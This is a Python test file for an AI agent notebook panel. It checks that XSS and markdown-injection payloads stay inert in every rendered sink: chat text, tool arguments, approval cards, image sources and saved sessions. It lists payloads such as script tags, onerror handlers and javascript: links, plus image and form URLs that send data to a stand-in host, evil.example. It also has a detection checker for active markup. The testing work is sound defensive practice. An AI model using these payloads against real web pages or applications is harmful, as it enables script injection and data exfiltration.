"""Hostile strings through every string sink of the panel: no active HTML, no remote fetch.

Each payload goes, at once, into the user's text, the model's text (markdown) and thinking,
the agent's and the user's names, a tool's arguments and result, an unknown tool's name, image
blocks (URL and base64 sources), an
approval card and its denial reason, a model error, the memory summary, the inspector's
previews and chart, and a session file loaded into a fresh panel. Every HTML value the front
end would insert is then parsed the way a browser would: only the elements nb_hitl itself
writes may appear, with no event handler, no script URL, and no attribute that makes the
browser fetch anything except inline ``data:`` images.
"""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from widget_helpers import all_html, until

from nb_hitl._render import CSS
from nb_hitl.agent import CompressionConfig, ReActAgent
from nb_hitl.message import Base64Source, ImageBlock, Msg, URLSource
from nb_hitl.model import ScriptedModel, ScriptedToolCall, ScriptedTurn
from nb_hitl.tool import Toolkit
from nb_hitl.widgets import AgentPanel

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "'><iframe src=https://evil.example/frame></iframe>",
    "[click](javascript:alert(4))",
    "[click](JaVaScRiPt:alert(5))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(7))",
    "![leak](https://evil.example/leak.png?d=SECRET)",
    "![leak](//evil.example/proto-relative.png)",
    "![leak][ref]\n\n[ref]: https://evil.example/ref.png",
    '![x](https://evil.example/t.png "title") and <https://evil.example/autolink>',
    '<img src="https://evil.example/raw.png">',
    '<a href="javascript:alert(8)">x</a>',
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<div style="background:url(https://evil.example/bg.png)">bg</div>',
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
    "<video><source onerror=alert(9)></video>",
    '<body background="https://evil.example/body.png">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>",
    '<svg><use href="https://evil.example/s.svg#x"/></svg>',
    "</textarea><script>alert(11)</script>",
    "</code></pre></details><script>alert(12)</script>",
    "<!-- <script>alert(13)</script> -->",
    "&lt;script&gt;alert(14)&lt;/script&gt;",
    "`<script>alert(15)</script>` and ```\n<script>alert(16)</script>\n```",
    "| a | <img src=x onerror=alert(17)> |\n|---|---|\n| [x](javascript:alert(18)) | b |",
    "<details open ontoggle=alert(19)>",
    "<form action=https://evil.example/f><button formaction=javascript:alert(20)>x</button>",
    "report\u202efdp.exe <meta http-equiv=refresh content='0;url=https://evil.example'>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "<a href=https://evil.example/ping ping=https://evil.example/p>ping</a>",
]

ALLOWED_TAGS = {
    "a", "b", "blockquote", "br", "button", "code", "del", "details", "div", "em", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "pre", "small", "span", "strong",
    "summary", "table", "tbody", "td", "th", "thead", "tr", "ul",
    "svg", "rect", "line", "polyline", "text", "g", "title", "circle", "path",
}  # fmt: skip
"""The elements nb_hitl writes itself (markdown output, rows, cards, the inspector's SVG, the
rows' Copy buttons: ``type="button"`` with the text in ``data-copy``)."""
CARD_CONTROLS = {"input", "option", "select", "textarea"}
CARD_FIELDS = {"arguments", "reason", "scope", "rule"}
"""The form controls an approval card draws (drawn inside the transcript: the arguments box, the
deny reason, the rule's scope, the rule box): allowed only with one of the card's own field
names."""
FETCHING_ATTRS = {"src", "srcset", "poster", "background", "data", "action", "formaction",
                  "ping", "xlink:href", "lowsrc", "dynsrc", "manifest", "codebase"}  # fmt: skip
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")


class Elements(HTMLParser):
    """The elements and attributes a browser would build from an HTML string."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, [(k, v or "") for k, v in attrs]))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def visible_text(html: str) -> str:
    """The text a browser would show for ``html`` (entities decoded, tags dropped)."""
    parser = Elements()
    parser.feed(html)
    parser.close()
    return "".join(parser.text)


def active_markup(html: str) -> list[str]:
    """Everything in ``html`` that could run code or fetch from another host."""
    parser = Elements()
    parser.feed(html)
    parser.close()
    problems = []
    for tag, attrs in parser.found:
        names = {v for k, v in attrs if k == "name"}
        card_control = tag in CARD_CONTROLS and (tag == "option" or names & CARD_FIELDS)
        if tag not in ALLOWED_TAGS and not card_control:
            problems.append(f"<{tag}> element")
        for name, value in attrs:
            plain = "".join(value.split()).lower()
            if name.startswith("on"):
                problems.append(f"<{tag} {name}> event handler")
            elif name in FETCHING_ATTRS and not (
                tag == "img" and name == "src" and plain.startswith("data:image/")
            ):
                problems.append(f"<{tag} {name}={value[:60]!r}> fetches")
            elif name in ("href", "xlink:href") and plain.startswith(SCRIPT_SCHEMES):
                problems.append(f"<{tag} {name}={value[:60]!r}> script link")
            elif name == "style" and ("url(" in plain or "expression(" in plain):
                problems.append(f"<{tag} style={value[:60]!r}> fetches")
            elif name == "http-equiv":
                problems.append(f"<{tag} http-equiv> directive")
    return problems


def page(*widgets: object) -> str:
    """Every HTML value of the widgets except the stylesheet nb_hitl writes itself."""
    return "\n".join(
        part for w in widgets for part in all_html(w).split("\n<style>") if part != CSS
    ).replace(CSS, "")


def hostile_agent(payload: str) -> ReActAgent:
    kit = Toolkit()

    def lookup(query: str) -> str:
        """Look something up.

        Args:
            query: what.
        """
        return f"found: {payload}"

    def deploy(target: str) -> str:
        """Deploy.

        Args:
            target: where.
        """
        return f"deployed {payload}"

    kit.register_tool_function(lookup)
    kit.register_tool_function(deploy, needs_approval=True)
    script = [
        ScriptedTurn(
            thinking=payload,
            text=payload,
            tool_calls=[
                ScriptedToolCall("lookup", {"query": payload, payload: payload}),
                ScriptedToolCall(payload, {"x": payload}),
            ],
        ),
        ScriptedTurn(text=payload, tool_calls=[ScriptedToolCall("deploy", {"target": payload})]),
        payload,
        RuntimeError(payload),
    ]
    return ReActAgent(
        payload,
        payload,
        ScriptedModel(script, tokens_per_second=20_000),
        toolkit=kit,
        compression_config=CompressionConfig(enable=False, trigger_threshold=30, keep_recent=1),
    )


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_payload_in_every_sink_stays_inert(payload: str, tmp_path: Path) -> None:
    agent = hostile_agent(payload)
    agent.interrupt_text = payload
    session = tmp_path / "hostile.json"
    panel = AgentPanel(agent, chat={"user_name": payload}, session=session)
    chat = panel.chat
    assert chat.approvals is not None and panel.inspector is not None
    chat.send(payload)
    await until(lambda: chat.approvals is not None and chat.approvals.waiting, what="card")
    [card] = chat.approvals.waiting
    card.deny_button.click()
    card.reason.value = payload
    card.deny_ok.click()
    await until(lambda: chat.state == "idle", what="reply")
    chat.send(payload)  # this one fails: the model raises with the payload as its message
    await until(lambda: chat.state == "error", what="error row")
    agent.memory.summary = payload
    agent.memory.add_sync(Msg(payload, payload, "assistant", metadata={"_is_interrupted": True}))
    images = [
        ImageBlock(source=URLSource(url=f"https://evil.example/i.png?d={payload}")),
        ImageBlock(source=URLSource(url=payload)),
        ImageBlock(source=Base64Source(media_type="text/html", data=payload)),
        ImageBlock(source=Base64Source(media_type="image/svg+xml", data=payload)),
    ]
    agent.memory.add_sync(Msg(payload, images, "assistant"))  # multimodal blocks
    panel.inspector.refresh()
    assert panel.session is not None and panel.session.save(), panel.session.note
    html = page(panel)
    assert payload in visible_text(html)  # drawn as text, escaped once

    fresh = hostile_agent(payload)
    panel2 = AgentPanel(fresh, chat={"user_name": payload}, session=session)
    assert panel2.session is not None and panel2.session.load() is not None
    assert panel2.inspector is not None
    panel2.inspector.refresh()
    html2 = page(panel2)
    assert len(fresh.memory) == len(agent.memory)
    assert payload in visible_text(html2)

    assert active_markup(html) == []
    assert active_markup(html2) == []
    panel.close()
    panel2.close()


def test_the_checker_itself_finds_active_markup() -> None:
    assert active_markup('<img src="https://evil.example/x.png">')
    assert active_markup('<a href=" javascript:alert(1)">x</a>')
    assert active_markup("<p onclick=x>")
    assert active_markup("<script>x</script>")
    assert active_markup('<div style="background: URL(https://e/x)">')
    assert not active_markup('<img src="data:image/png;base64,AAAA"><a href="https://e/">x</a>')
